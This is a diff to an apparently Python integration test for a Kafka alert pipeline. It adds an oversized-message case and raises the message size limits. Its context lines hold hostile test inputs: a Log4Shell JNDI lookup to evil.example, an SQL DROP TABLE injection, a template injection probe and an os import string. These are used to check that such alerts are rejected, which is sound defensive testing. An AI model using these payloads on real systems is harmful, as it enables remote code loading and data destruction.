@@ -72,6 +72,7 @@ BAD: dict[str, bytes] = {
     "not_utf8": b'{"title": "\xff\xfe bad bytes", "severity": "high"}',
     "too_large": json.dumps({"title": "x" * (MAX_BYTES + 10), "severity": "low"}).encode(),
     "too_deep": b"[" * 10_000 + b"]" * 10_000,
+    "two_mib": b'{"title": "' + b"y" * 2 * 1_048_576 + b'", "severity": "low"}',
     "wrong_types": json.dumps({"title": 5, "severity": ["high"], "time": TIME}).encode(),
     "injection": json.dumps(
         {"title": "x", "severity": "${jndi:ldap://evil.example/a}", "time": "'; DROP TABLE x;--"}
@@ -84,7 +85,9 @@ HOSTILE_TITLE = "{{ 7*7 }} ${jndi:ldap://evil.example/a} __import__('os') '; DRO
 
 
 async def produce(bootstrap: str, topic: str, messages: list[tuple[bytes, list[Any]]]) -> None:
-    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
+    producer = AIOKafkaProducer(
+        bootstrap_servers=bootstrap, acks="all", max_request_size=4 * 1_048_576
+    )
     await producer.start()
     try:
         for value, headers in messages:
@@ -95,7 +98,11 @@ async def produce(bootstrap: str, topic: str, messages: list[tuple[bytes, list[A
 
 async def read_all(bootstrap: str, topic: str, count: int) -> list[Any]:
     consumer = AIOKafkaConsumer(
-        topic, bootstrap_servers=bootstrap, auto_offset_reset="earliest", enable_auto_commit=False
+        topic,
+        bootstrap_servers=bootstrap,
+        auto_offset_reset="earliest",
+        enable_auto_commit=False,
+        max_partition_fetch_bytes=4 * 1_048_576,
     )
     await consumer.start()
     records: list[Any] = []
@@ -191,6 +198,7 @@ async def test_alerts_become_runs_and_bad_messages_dead_letters(
         assert codes[BAD["not_utf8"]] == "not_utf8"
         assert codes[BAD["too_large"]] == "too_large"
         assert codes[BAD["too_deep"]] == "too_deep"
+        assert codes[BAD["two_mib"]] == "too_large"
         assert codes[BAD["not_an_object"]] == "not_an_object"
         assert codes[BAD["wrong_types"]] in {"invalid_field", "unknown_format"}
         assert codes[BAD["injection"]] in {"invalid_field", "unknown_format"}
